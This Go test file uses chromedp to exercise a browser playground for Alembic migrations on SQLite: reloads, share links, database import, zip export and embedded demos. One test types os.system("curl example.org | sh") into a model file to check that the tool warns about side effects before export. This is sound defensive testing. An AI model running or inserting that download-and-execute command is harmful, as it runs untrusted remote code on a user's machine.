package browsertest

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/accessibility"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
	"github.com/stretchr/testify/require"
)

// requestLog counts the server's full (200) responses by path, so a test can
// tell a download from a cache hit or revalidation (304).
type requestLog struct {
	mu   sync.Mutex
	full map[string]int
}

var served = &requestLog{full: map[string]int{}}

type statusWriter struct {
	http.ResponseWriter
	status int
}

func (w *statusWriter) WriteHeader(code int) {
	w.status = code
	w.ResponseWriter.WriteHeader(code)
}

// counting wraps the test server's handler.
func (l *requestLog) counting(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sw := &statusWriter{ResponseWriter: w, status: http.StatusOK}
		next.ServeHTTP(sw, r)
		if sw.status == http.StatusOK && r.Method == http.MethodGet {
			l.mu.Lock()
			l.full[r.URL.Path]++
			l.mu.Unlock()
		}
	})
}

func (l *requestLog) reset() {
	l.mu.Lock()
	defer l.mu.Unlock()
	clear(l.full)
}

func (l *requestLog) count(path string) int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.full[path]
}

// incognito opens url (a path and query below the server, with any
// fragment) in a new browser context of p's browser: no shared storage, as
// a private window or another person's browser.
func (p *page) incognito(url string) *page {
	t := p.t
	t.Helper()
	ctx, cancel := chromedp.NewContext(p.ctx, chromedp.WithNewBrowserContext())
	t.Cleanup(cancel)
	q := &page{t: t, ctx: ctx, w: 1280, h: 900}
	start := time.Now()
	q.do(chromedp.EmulateViewport(1280, 900), chromedp.Navigate(url))
	q.waitReady(60 * time.Second)
	t.Logf("new browser context ready in %v", time.Since(start).Round(time.Millisecond))
	q.do(chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, accessibility.Enable, cdp.Empty{})
		return err
	}))
	return q
}

// editorText is the text of the file shown in the editor.
func (p *page) editorText() string {
	p.t.Helper()
	return eval[string](p, `document.querySelector('.cm-content').innerText`)
}

// appendToModel types text at the end of models.py.
func (p *page) appendToModel(text string) {
	p.t.Helper()
	p.click("tab", "models.py")
	p.do(
		chromedp.Click(chromedp.CSS(`.cm-content`), chromedp.NodeVisible),
		chromedp.KeyEvent(kb.End, chromedp.KeyModifiers(chromedp.ModifierCtrl)),
		insertText(text),
	)
}

// saved waits until the page has saved more than n times, and returns the count.
func (p *page) savedAfter(n int) int {
	p.t.Helper()
	p.waitFor(fmt.Sprintf(`Number(document.documentElement.dataset.retortSaved || 0) > %d && document.documentElement.dataset.retort === 'ready'`, n), 10*time.Second)
	return eval[int](p, `Number(document.documentElement.dataset.retortSaved)`)
}

func (p *page) saves() int {
	p.t.Helper()
	return eval[int](p, `Number(document.documentElement.dataset.retortSaved || 0)`)
}

// dialogButton clicks a button of the open dialog by its text.
func (p *page) dialogButton(label string) {
	p.t.Helper()
	p.waitFor(fmt.Sprintf(`[...document.querySelectorAll('dialog[open] button')].some(b => b.textContent === %q)`, label), 10*time.Second)
	p.do(chromedp.Click(fmt.Sprintf(`dialog button %q`, label), byRole("button", label)))
}

// captureDownloads makes the page's downloads land in window.__downloads
// (name and Blob) instead of the download folder.
func (p *page) captureDownloads() {
	p.t.Helper()
	eval[any](p, `(() => {
		window.__downloads = [];
		const blobs = new Map();
		const create = URL.createObjectURL;
		URL.createObjectURL = (b) => { const u = create.call(URL, b); blobs.set(u, b); return u; };
		HTMLAnchorElement.prototype.click = function () {
			if (this.hasAttribute('download')) window.__downloads.push({ name: this.download, blob: blobs.get(this.href) });
		};
	})()`)
}

// download waits for the n-th captured download (from 1), and returns its name and bytes.
func (p *page) download(n int) (string, []byte) {
	p.t.Helper()
	p.waitFor(fmt.Sprintf(`(window.__downloads || []).length >= %d`, n), 20*time.Second)
	v, err := chromedp.Run(p.ctx, chromedp.Evaluate[[]string](fmt.Sprintf(`(async () => {
		const d = window.__downloads[%d];
		const b = new Uint8Array(await d.blob.arrayBuffer());
		let s = '';
		for (let i = 0; i < b.length; i += 0x8000) s += String.fromCharCode(...b.subarray(i, i + 0x8000));
		return [d.name, btoa(s)];
	})()`, n-1), chromedp.EvalAwaitPromise))
	require.NoError(p.t, err)
	data, err := base64.StdEncoding.DecodeString(v[1])
	require.NoError(p.t, err)
	return v[0], data
}

// cellsOf lists a table's body cells, row by row, joined with " | ".
func (p *page) cellsOf(table string) []string {
	p.t.Helper()
	return eval[[]string](p, fmt.Sprintf(`[...document.querySelectorAll('table[aria-label=%q] tbody tr')].map(tr => [...tr.cells].map(td => td.textContent).join(' | '))`, table+" rows"))
}

// lastResult is the last query result printed in the terminal.
func (p *page) lastResult() string {
	p.t.Helper()
	return eval[string](p, `[...document.querySelectorAll('[role=log] pre.result')].pop()?.textContent ?? ''`)
}

// TestPersistReload: a change (an edit and rows) survives a reload; Reset
// returns to the lesson's start and forgets it.
func TestPersistReload(t *testing.T) {
	p := open(t, "?example=add-age")
	require.Equal(t, "3 rows", p.rowCount("users"))
	require.Equal(t, "add-age", eval[string](p, `document.querySelector('select[aria-label=Lesson]').value`))

	// Saved after the command, and again once the editor is quiet after the edit.
	n := p.saves()
	p.command(`INSERT INTO users (name, email) VALUES ('Edsger Dijkstra', 'ewd@example.com');`)
	n = p.savedAfter(n)
	p.appendToModel("    age = Column(Integer, nullable=True)\n")
	p.savedAfter(n)

	p.do(chromedp.Reload())
	p.waitReady(30 * time.Second)
	require.Equal(t, "4 rows", p.rowCount("users"))
	require.Contains(t, p.cellsOf("users"), "4 | Edsger Dijkstra | ewd@example.com")
	require.Contains(t, p.editorText(), "age = Column(Integer, nullable=True)")
	require.Contains(t, p.output(), "Restored your work on this lesson")

	// Reset: back to the lesson's start, and a reload stays there.
	p.click("button", "Reset")
	p.dialogButton("Reset to the start")
	p.settle(`document.querySelector('table[aria-label="users rows"]')?.dataset.rowCount === "3"`)
	require.NotContains(t, p.editorText(), "age = Column")
	p.do(chromedp.Reload())
	p.waitReady(30 * time.Second)
	require.Equal(t, "3 rows", p.rowCount("users"))
	require.NotContains(t, p.editorText(), "age = Column")
	require.NotContains(t, p.output(), "Restored your work")
}

// TestShareLink: the link made by Share opens the same state in a new
// browser context: files, revisions, rows (values of every type exactly).
func TestShareLink(t *testing.T) {
	p := open(t, "?example=add-age")
	p.appendToModel("    age = Column(Integer, nullable=True)\n")
	p.command(`alembic revision --autogenerate -m "add age"`)
	p.command(`alembic upgrade head`)
	p.command(`UPDATE users SET age = 36 WHERE id = 1; CREATE TABLE kinds (i INTEGER, r REAL, t TEXT, b BLOB, n); INSERT INTO kinds VALUES (1, 1.0, 'it''s', x'00ff', 0.1), (9007199254740993, -2.5e-300, 'line' || char(10) || 'break', NULL, 'x');`)
	const probe = `SELECT typeof(i), quote(i), typeof(r), quote(r), quote(t), quote(b), typeof(n), quote(n) FROM kinds;`
	p.command(probe)
	want := p.lastResult()
	for _, v := range []string{"9007199254740993", "1.0", "-2.5e-300", "'it''s'", "X'00FF'", "0.1", "(2 rows)"} {
		require.Contains(t, want, v)
	}
	tabs, revs := p.tabs(), p.revisions()
	users := p.cellsOf("users")

	p.click("button", "Share")
	p.waitFor(`!!document.querySelector('dialog[open] input[aria-label="Share link"]')`, 10*time.Second)
	link := eval[string](p, `document.querySelector('dialog[open] input[aria-label="Share link"]').value`)
	require.True(t, strings.HasPrefix(link, server.URL+"/?example=add-age#share="), link)
	t.Logf("share link: %d bytes", len(link))
	p.screenshot("share-dialog")
	p.dialogButton("Close")

	q := p.incognito(link)
	require.Contains(t, q.output(), "Opened a shared project")
	require.Equal(t, tabs, q.tabs())
	require.Equal(t, revs, q.revisions())
	require.Equal(t, users, q.cellsOf("users"))
	require.Equal(t, []string{"id", "name", "email", "age"}, q.headers("users"))
	q.command(probe)
	require.Equal(t, want, q.lastResult())
	q.command(`alembic current`)
	require.Contains(t, q.output(), "(head)")
	// The fragment is gone: a reload keeps later changes (saved in this context).
	require.Equal(t, "", eval[string](q, `location.hash`))
}

// TestShareTooLarge: with 10,000 rows the link would be too long; the page
// says so and offers a link without the rows (or the zip).
func TestShareTooLarge(t *testing.T) {
	p := open(t, "?example=add-age")
	p.click("button", "Seed 10,000 users")
	p.settle(`document.querySelector('table[aria-label="users rows"]').dataset.rowCount === "10003"`)
	p.click("button", "Share")
	p.waitFor(`document.querySelector('dialog[open] h2')?.textContent === 'Too large for a link'`, 20*time.Second)
	require.Contains(t, eval[string](p, `document.querySelector('dialog[open]').innerText`), "10,003 rows left out")
	p.screenshot("share-too-large")
	p.dialogButton("Share without rows")
	p.waitFor(`!!document.querySelector('dialog[open] input[aria-label="Share link"]')`, 10*time.Second)
	link := eval[string](p, `document.querySelector('dialog[open] input[aria-label="Share link"]').value`)
	require.Less(t, len(link), 32*1024)

	q := p.incognito(link)
	require.Equal(t, "0 rows", q.rowCount("users"))
	require.Equal(t, []string{"1f67b9e072b7"}, q.cellsOf("alembic_version"))
}

// TestImportDB: the downloaded .db opens again; a corrupt file is refused
// and nothing is lost.
func TestImportDB(t *testing.T) {
	p := open(t, "?example=add-age")
	p.captureDownloads()
	p.click("button", "Download .db")
	name, db := p.download(1)
	require.Equal(t, "myapp.db", name)
	require.True(t, bytes.HasPrefix(db, []byte("SQLite format 3\x00")))

	p.command(`DELETE FROM users WHERE id > 1; CREATE TABLE extra (x);`)
	require.Equal(t, "1 row", p.rowCount("users"))
	dir := t.TempDir()
	good := filepath.Join(dir, "myapp.db")
	require.NoError(t, os.WriteFile(good, db, 0o644))
	p.do(chromedp.SetUploadFiles(chromedp.CSS(`#import-db`), []string{good}))
	p.settle(`document.querySelector('table[aria-label="users rows"]')?.dataset.rowCount === "3"`)
	require.False(t, eval[bool](p, `!!document.querySelector('table[aria-label="extra rows"]')`))

	// The header is right, the pages are garbage: refused, the rows stay.
	bad := bytes.Clone(db)
	for i := 100; i < len(bad); i++ {
		bad[i] = byte(i * 7)
	}
	corrupt := filepath.Join(dir, "corrupt.db")
	require.NoError(t, os.WriteFile(corrupt, bad, 0o644))
	p.do(chromedp.SetUploadFiles(chromedp.CSS(`#import-db`), []string{corrupt}))
	p.settle(`document.querySelector('[role=log]').innerText.includes('-- Opening corrupt.db')`)
	out := p.output()
	require.Contains(t, out[strings.LastIndex(out, "-- Opening corrupt.db"):], "not a SQLite database")
	require.Equal(t, "3 rows", p.rowCount("users"))
	require.Equal(t, []string{"1f67b9e072b7"}, p.cellsOf("alembic_version"))
}

// TestExportZip: Download .zip says which revisions the real Alembic cannot
// run on SQLite outside batch mode, re-renders them as batch blocks, and
// downloads a zip of the project and its database.
func TestExportZip(t *testing.T) {
	p := open(t, "?example=alembic-sqlite-trap")
	p.captureDownloads()
	p.click("button", "Download .zip")
	p.waitFor(`document.querySelector('dialog[open] h2')?.textContent === 'Alembic needs batch mode here'`, 10*time.Second)
	text := eval[string](p, `document.querySelector('dialog[open]').innerText`)
	require.Contains(t, text, "alembic/versions/bbbbbbbbbbbb_many_changes.py")
	require.Contains(t, text, "op.alter_column(")
	require.Contains(t, text, "Constraint must have a name", "the unnamed foreign key fails in Alembic's batch mode too")
	p.screenshot("export-batch-dialog")
	p.dialogButton("Re-render as batch and download")
	name, data := p.download(1)
	require.Equal(t, "myapp.zip", name)
	require.Contains(t, p.output(), "Re-rendered alembic/versions/bbbbbbbbbbbb_many_changes.py with batch blocks")

	entries := unzip(t, data)
	for _, want := range []string{"myapp/alembic.ini", "myapp/models.py", "myapp/database.py", "myapp/alembic/env.py",
		"myapp/alembic/script.py.mako", "myapp/alembic/versions/", "myapp/alembic/versions/bbbbbbbbbbbb_many_changes.py", "myapp/myapp.db"} {
		require.Contains(t, entries, want)
	}
	require.Contains(t, entries["myapp/alembic/versions/bbbbbbbbbbbb_many_changes.py"], "with op.batch_alter_table(")
	require.Contains(t, entries["myapp/alembic/versions/bbbbbbbbbbbb_many_changes.py"], "batch_op.create_foreign_key('fk_posts_user_id_users'", "the unnamed foreign key is named for Alembic's batch mode")
	require.True(t, strings.HasPrefix(entries["myapp/myapp.db"], "SQLite format 3\x00"))

	// Nothing left to re-render: the next download asks nothing.
	p.click("button", "Download .zip")
	name, _ = p.download(2)
	require.Equal(t, "myapp.zip", name)
}

// TestEmbedDemo: the docs-like demo page's three playgrounds load (on
// scrolling, or a click), reach ready, follow their content's height, and
// one runs a command; the engine is downloaded once for all three.
func TestEmbedDemo(t *testing.T) {
	p := newBrowser(t)
	served.reset()
	p.do(chromedp.EmulateViewport(1280, 900), chromedp.Navigate(server.URL+"/embed-demo.html"))
	p.waitFor(`customElements.get('retort-playground') !== undefined && document.querySelectorAll('retort-playground').length === 3`, 10*time.Second)
	// The first is in view; the others load as they scroll in, or on a click.
	p.waitFor(`!!document.querySelector('#first iframe')`, 10*time.Second)
	eval[any](p, `document.querySelector('#second').scrollIntoView()`)
	p.waitFor(`!!document.querySelector('#second iframe')`, 10*time.Second)
	eval[any](p, `window.scrollTo(0, document.body.scrollHeight)`)
	p.waitFor(`!!document.querySelector('#third iframe') || !!document.querySelector('#third button')`, 5*time.Second)
	if !eval[bool](p, `!!document.querySelector('#third iframe')`) {
		p.do(chromedp.Click(chromedp.CSS(`#third button`), chromedp.NodeVisible))
	}
	for _, id := range []string{"first", "second", "third"} {
		p.waitFor(fmt.Sprintf(`document.getElementById(%q).textContent === 'ready'`, id+"-events"), 30*time.Second)
	}
	doc := func(id string) string { return fmt.Sprintf(`document.querySelector('#%s iframe').contentDocument`, id) }
	require.Equal(t, "ready", eval[string](p, doc("second")+`.documentElement.dataset.retort`))
	require.Equal(t, "3 rows", eval[string](p, doc("second")+`.querySelector('table[aria-label="users rows"]').closest('section').querySelector('.rowcount').textContent`))
	require.Contains(t, eval[string](p, doc("third")+`.querySelector('.cm-content').innerText`), `__tablename__ = "books"`)

	// The frame is as tall as its content.
	h := eval[int](p, `document.querySelector('#first iframe').getBoundingClientRect().height`)
	content := eval[int](p, doc("first")+`.body.scrollHeight`)
	require.InDelta(t, content+2, h, 3, "iframe height follows the content (2px of border)")

	// Run a command in the third: the element says `step`, and the frame grows with the new table.
	eval[any](p, doc("third")+`.querySelector('input[aria-label=Command]').value = 'alembic revision --autogenerate -m "create books"'`)
	eval[any](p, doc("third")+`.querySelector('input[aria-label=Command]').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }))`)
	p.waitFor(`document.getElementById('third-events').textContent.startsWith('ran alembic revision')`, 20*time.Second)
	eval[any](p, doc("third")+`.querySelector('input[aria-label=Command]').value = 'alembic upgrade head'`)
	eval[any](p, doc("third")+`.querySelector('input[aria-label=Command]').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }))`)
	p.waitFor(`document.getElementById('third-events').textContent.startsWith('ran alembic upgrade head')`, 20*time.Second)
	require.NotContains(t, eval[string](p, `document.getElementById('third-events').textContent`), "at base")
	p.waitFor(doc("third")+`.querySelector('table[aria-label="books rows"]') !== null`, 10*time.Second)
	p.screenshotTall("embed-demo")

	require.Equal(t, 1, served.count("/retort.wasm"), "one download of the engine for three embeds")
	require.Equal(t, 1, served.count("/main.js"))

	// "Open in Retort" takes the embed's project, as it is now, to the full page in a new tab.
	frames, err := chromedp.Run(p.ctx, chromedp.Nodes(chromedp.CSS(`#third iframe`)))
	require.NoError(t, err)
	tab := chromedp.WaitNewTarget(p.ctx, func(info *target.Info) bool { return info.Type == "page" && strings.HasPrefix(info.URL, server.URL) })
	p.do(chromedp.Click(chromedp.CSS(`#open-full`), chromedp.FromNode(frames[0]), chromedp.NodeVisible))
	var id target.ID
	select {
	case id = <-tab:
	case <-time.After(10 * time.Second):
		t.Fatal("no new tab")
	}
	ctx, cancel := chromedp.NewContext(p.ctx, chromedp.WithTargetID(id))
	defer cancel()
	full := &page{t: t, ctx: ctx, w: 1280, h: 900}
	full.waitFor(readyJS+` && location.search === '?example=tutorial' && !!document.querySelector('table[aria-label="books rows"]')`, 30*time.Second)
	require.False(t, eval[bool](full, `document.documentElement.classList.contains('embed')`))
	require.Contains(t, full.output(), "Opened a shared project")
	require.Len(t, full.revisions(), 2)
}

// TestExportZipAlembic: the real Alembic runs the zip the page downloads,
// a revision re-rendered as batch blocks included (when alembic is installed).
func TestExportZipAlembic(t *testing.T) {
	if _, err := exec.LookPath("alembic"); err != nil {
		t.Skip("alembic is not installed (apt-get install alembic)")
	}
	p := open(t, "?example=add-age")
	p.captureDownloads()
	p.click("tab", "models.py")
	models := strings.Replace(p.editorText(), "unique=True)", "unique=True, nullable=False)", 1)
	p.do(
		chromedp.Click(chromedp.CSS(`.cm-content`), chromedp.NodeVisible),
		chromedp.KeyEvent("a", chromedp.KeyModifiers(chromedp.ModifierCtrl)),
		insertText(models),
	)
	require.Contains(t, p.editorText(), "email = Column(String, unique=True, nullable=False)")
	p.command(`alembic revision --autogenerate -m "email not null"`)
	p.click("button", "Download .zip")
	p.dialogButton("Re-render as batch and download")
	_, data := p.download(1)
	entries := unzip(t, data)
	var script string
	for name, text := range entries {
		if strings.HasSuffix(name, "_email_not_null.py") {
			script = text
		}
	}
	require.Contains(t, script, "with op.batch_alter_table('users', schema=None) as batch_op:")
	out := runAlembic(t, entries, "myapp")
	require.Contains(t, out, "Running upgrade 1f67b9e072b7 -> ")
	require.Contains(t, out, "(head)")
}

func unzip(t *testing.T, data []byte) map[string]string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)
	entries := map[string]string{}
	for _, f := range zr.File {
		rc, err := f.Open()
		require.NoError(t, err)
		b, err := io.ReadAll(rc)
		require.NoError(t, err)
		entries[f.Name] = string(b)
	}
	return entries
}

// runAlembic writes entries to a folder and runs the real Alembic's
// `upgrade head` and `current` in folder; it returns their output.
func runAlembic(t *testing.T, entries map[string]string, folder string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range entries {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if strings.HasSuffix(name, "/") {
			require.NoError(t, os.MkdirAll(p, 0o755))
			continue
		}
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(content), 0o644))
	}
	var all strings.Builder
	for _, args := range [][]string{{"upgrade", "head"}, {"current"}} {
		cmd := exec.Command("alembic", args...)
		cmd.Dir = filepath.Join(dir, folder)
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "alembic %v:\n%s", args, out)
		all.Write(out)
	}
	return all.String()
}

// TestSideEffectsBeforeDownload: a line in the models that would run a
// command under the real Alembic (os.system) is underlined as a warning as
// you type, and Download .zip names it before the project leaves the page.
func TestSideEffectsBeforeDownload(t *testing.T) {
	p := open(t, "")
	p.captureDownloads()
	p.click("tab", "models.py")
	p.do(
		chromedp.Click(chromedp.CSS(`.cm-content`), chromedp.NodeVisible),
		chromedp.KeyEvent(kb.End, chromedp.KeyModifiers(chromedp.ModifierCtrl)),
		insertText("\nimport os\nos.system(\"curl example.org | sh\")\n"),
	)
	p.waitFor(`!!document.querySelector('.cm-lintRange-warning')`, 20*time.Second)
	require.False(t, eval[bool](p, `!!document.querySelector('.cm-lintRange-error')`), "a warning, not an error")

	p.click("button", "Download .zip")
	p.waitFor(`document.querySelector('dialog[open] h2')?.textContent === 'This project runs more than migrations'`, 20*time.Second)
	text := eval[string](p, `document.querySelector('dialog[open]').innerText`)
	require.Contains(t, text, "models.py:")
	require.Contains(t, text, "Retort does not run os.system()")
	p.dialogButton("Cancel")
	p.waitFor(`!document.querySelector('dialog[open]')`, 10*time.Second)

	p.click("button", "Download .zip")
	p.waitFor(`document.querySelector('dialog[open] h2')?.textContent === 'This project runs more than migrations'`, 20*time.Second)
	p.dialogButton("Download anyway")
	name, _ := p.download(1)
	require.True(t, strings.HasSuffix(name, ".zip"), name)
}
